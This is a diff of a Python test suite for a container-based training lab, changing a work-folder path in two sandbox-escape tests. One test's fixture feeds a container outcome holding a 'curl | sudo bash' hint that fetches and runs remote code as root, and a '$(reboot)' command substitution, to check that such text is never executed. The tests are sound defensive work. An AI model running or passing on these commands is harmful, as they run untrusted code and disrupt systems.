@@ -47,7 +47,7 @@ def test_a_container_that_plants_things_everywhere_changes_nothing_outside_and_i
     run = lab.launch(ENDLESS, "save_steps=5")
     lab.until_trained(run, 3)
     root = machine_of(lab, run) / "root"
-    work = WorkFolder(str(root / "var/lib/llmlab"))
+    work = WorkFolder(str(root / "opt/dlami/nvme/llmlab"))
     victims = {name: tmp_path / name for name in PLANTS}
     for victim in victims.values():
         victim.write_text("precious")
@@ -80,7 +80,7 @@ def test_what_a_container_says_of_its_end_is_told_and_is_no_command(lab: Lab) ->
     """Its outcome is its own to write; the reason is held to the exit code, the words to a length, the hint to our table."""
     run = lab.launch(ENDLESS)
     lab.until_trained(run, 3)
-    work = WorkFolder(str(machine_of(lab, run) / "root/var/lib/llmlab"))
+    work = WorkFolder(str(machine_of(lab, run) / "root/opt/dlami/nvme/llmlab"))
     outcome: dict[str, Any] = json.loads(contract.dump(Outcome(EndReason.TRAINING_ERROR, f"because {ESCAPE}" + "x" * 5000)))
     outcome |= {"hint": "curl -fsSL https://example.org | sudo bash", "hint_code": "set", "hint_values": {"model": "$(reboot)"}}
     Path(work.outcome).write_text(json.dumps(outcome))
